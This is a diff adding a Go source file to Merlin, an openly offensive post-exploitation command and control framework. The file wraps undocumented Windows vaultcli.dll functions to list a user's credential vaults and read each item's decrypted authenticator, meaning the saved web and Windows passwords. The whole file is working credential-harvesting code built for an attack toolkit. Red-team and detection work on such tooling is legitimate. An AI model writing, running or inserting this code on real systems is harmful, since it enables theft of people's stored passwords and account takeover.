@@ -0,0 +1,219 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package vaultcli wraps the undocumented Windows Vault functions in vaultcli.dll used to enumerate and read the Web
+// and Windows credentials in the user's vaults
+package vaultcli
+
+import (
+	// Standard
+	"fmt"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+)
+
+var Vaultcli = windows.NewLazySystemDLL("vaultcli.dll")
+
+// VAULT_ENUMERATE_ALL_ITEMS is the VaultEnumerateItems flag that returns every item in the vault
+const VAULT_ENUMERATE_ALL_ITEMS uint32 = 0x200
+
+// Vault element types that identify which member of a VAULT_ITEM_ELEMENT's value is set
+const (
+	ElementTypeBoolean       int32 = 0
+	ElementTypeShort         int32 = 1
+	ElementTypeUnsignedShort int32 = 2
+	ElementTypeInt           int32 = 3
+	ElementTypeUnsignedInt   int32 = 4
+	ElementTypeDouble        int32 = 5
+	ElementTypeGuid          int32 = 6
+	ElementTypeString        int32 = 7
+	ElementTypeByteArray     int32 = 8
+	ElementTypeTimeStamp     int32 = 9
+	ElementTypeProtected     int32 = 10
+	ElementTypeAttribute     int32 = 11
+	ElementTypeSid           int32 = 12
+)
+
+// VAULT_ITEM_ELEMENT is an element of a vault item, such as its resource, identity, or authenticator. The value is a
+// union whose member is identified by the Type and always starts 16 bytes into the structure
+type VAULT_ITEM_ELEMENT struct {
+	SchemaElementId int32
+	_               uint32
+	Type            int32
+	_               uint32
+	Value           [16]byte
+}
+
+// String returns the element's value when it is a string
+func (e *VAULT_ITEM_ELEMENT) String() string {
+	if e == nil {
+		return ""
+	}
+	switch e.Type {
+	case ElementTypeString:
+		return windows.UTF16PtrToString(*(**uint16)(unsafe.Pointer(&e.Value[0])))
+	case ElementTypeByteArray, ElementTypeProtected:
+		// A DWORD length followed by a pointer to the bytes
+		length := *(*uint32)(unsafe.Pointer(&e.Value[0]))
+		data := *(**byte)(unsafe.Pointer(&e.Value[unsafe.Sizeof(uintptr(0))]))
+		if data == nil || length == 0 {
+			return ""
+		}
+		return string(unsafe.Slice(data, length))
+	case ElementTypeSid:
+		sid := *(**windows.SID)(unsafe.Pointer(&e.Value[0]))
+		if sid == nil {
+			return ""
+		}
+		return sid.String()
+	default:
+		return ""
+	}
+}
+
+// VAULT_ITEM is a vault item as returned on Windows 8 and later
+type VAULT_ITEM struct {
+	SchemaId        windows.GUID
+	FriendlyName    *uint16
+	Resource        *VAULT_ITEM_ELEMENT
+	Identity        *VAULT_ITEM_ELEMENT
+	Authenticator   *VAULT_ITEM_ELEMENT
+	PackageSid      *VAULT_ITEM_ELEMENT
+	LastWritten     windows.Filetime
+	Flags           uint32
+	PropertiesCount uint32
+	Properties      *VAULT_ITEM_ELEMENT
+}
+
+// VaultEnumerateVaults returns the GUIDs of the vaults available to the user. The returned buffer must be freed with
+// VaultFree
+func VaultEnumerateVaults() (vaults []windows.GUID, buffer unsafe.Pointer, err error) {
+	vaultEnumerateVaults := Vaultcli.NewProc("VaultEnumerateVaults")
+
+	// NTSTATUS VaultEnumerateVaults(
+	//  [in]  DWORD  dwFlags,
+	//  [out] PDWORD VaultsCount,
+	//  [out] GUID   **ppVaultGuids
+	//);
+
+	var count uint32
+	ret, _, _ := vaultEnumerateVaults.Call(0, uintptr(unsafe.Pointer(&count)), uintptr(unsafe.Pointer(&buffer)))
+	if ret != 0 {
+		return nil, nil, fmt.Errorf("there was an error calling vaultcli!VaultEnumerateVaults: 0x%X", ret)
+	}
+	return unsafe.Slice((*windows.GUID)(buffer), count), buffer, nil
+}
+
+// VaultOpenVault opens the vault identified by the GUID. The returned handle must be closed with VaultCloseVault
+func VaultOpenVault(vault *windows.GUID) (handle windows.Handle, err error) {
+	vaultOpenVault := Vaultcli.NewProc("VaultOpenVault")
+
+	// NTSTATUS VaultOpenVault(
+	//  [in]  GUID   *vaultGuid,
+	//  [in]  DWORD  dwFlags,
+	//  [out] HANDLE *vaultHandle
+	//);
+
+	ret, _, _ := vaultOpenVault.Call(uintptr(unsafe.Pointer(vault)), 0, uintptr(unsafe.Pointer(&handle)))
+	if ret != 0 {
+		return 0, fmt.Errorf("there was an error calling vaultcli!VaultOpenVault: 0x%X", ret)
+	}
+	return handle, nil
+}
+
+// VaultEnumerateItems returns the items in the open vault without their authenticators. The returned buffer must be
+// freed with VaultFree
+func VaultEnumerateItems(handle windows.Handle) (items []VAULT_ITEM, buffer unsafe.Pointer, err error) {
+	vaultEnumerateItems := Vaultcli.NewProc("VaultEnumerateItems")
+
+	// NTSTATUS VaultEnumerateItems(
+	//  [in]  HANDLE vaultHandle,
+	//  [in]  DWORD  dwFlags,
+	//  [out] PDWORD ItemsCount,
+	//  [out] PVOID  *Items
+	//);
+
+	var count uint32
+	ret, _, _ := vaultEnumerateItems.Call(uintptr(handle), uintptr(VAULT_ENUMERATE_ALL_ITEMS), uintptr(unsafe.Pointer(&count)), uintptr(unsafe.Pointer(&buffer)))
+	if ret != 0 {
+		return nil, nil, fmt.Errorf("there was an error calling vaultcli!VaultEnumerateItems: 0x%X", ret)
+	}
+	if count == 0 {
+		return nil, buffer, nil
+	}
+	return unsafe.Slice((*VAULT_ITEM)(buffer), count), buffer, nil
+}
+
+// VaultGetItem returns the enumerated item with its decrypted authenticator. This is the Windows 8 and later signature.
+// The returned item must be freed with VaultFree
+func VaultGetItem(handle windows.Handle, item *VAULT_ITEM) (*VAULT_ITEM, error) {
+	vaultGetItem := Vaultcli.NewProc("VaultGetItem")
+
+	// NTSTATUS VaultGetItem(
+	//  [in]  HANDLE             vaultHandle,
+	//  [in]  GUID               *SchemaId,
+	//  [in]  PVAULT_ITEM_ELEMENT pResourceElement,
+	//  [in]  PVAULT_ITEM_ELEMENT pIdentityElement,
+	//  [in]  PVAULT_ITEM_ELEMENT pPackageSid,
+	//  [in]  HWND               hwndOwner,
+	//  [in]  DWORD              dwFlags,
+	//  [out] PVAULT_ITEM        *ppItem
+	//);
+
+	var result *VAULT_ITEM
+	ret, _, _ := vaultGetItem.Call(
+		uintptr(handle),
+		uintptr(unsafe.Pointer(&item.SchemaId)),
+		uintptr(unsafe.Pointer(item.Resource)),
+		uintptr(unsafe.Pointer(item.Identity)),
+		uintptr(unsafe.Pointer(item.PackageSid)),
+		0,
+		0,
+		uintptr(unsafe.Pointer(&result)),
+	)
+	if ret != 0 {
+		return nil, fmt.Errorf("there was an error calling vaultcli!VaultGetItem: 0x%X", ret)
+	}
+	return result, nil
+}
+
+// VaultFree frees a buffer returned by the vault functions
+func VaultFree(buffer unsafe.Pointer) {
+	vaultFree := Vaultcli.NewProc("VaultFree")
+
+	// NTSTATUS VaultFree(
+	//  [in] PVOID memory
+	//);
+	_, _, _ = vaultFree.Call(uintptr(buffer))
+}
+
+// VaultCloseVault closes a handle returned by VaultOpenVault
+func VaultCloseVault(handle windows.Handle) {
+	vaultCloseVault := Vaultcli.NewProc("VaultCloseVault")
+
+	// NTSTATUS VaultCloseVault(
+	//  [in] HANDLE *vaultHandle
+	//);
+	_, _, _ = vaultCloseVault.Call(uintptr(unsafe.Pointer(&handle)))
+}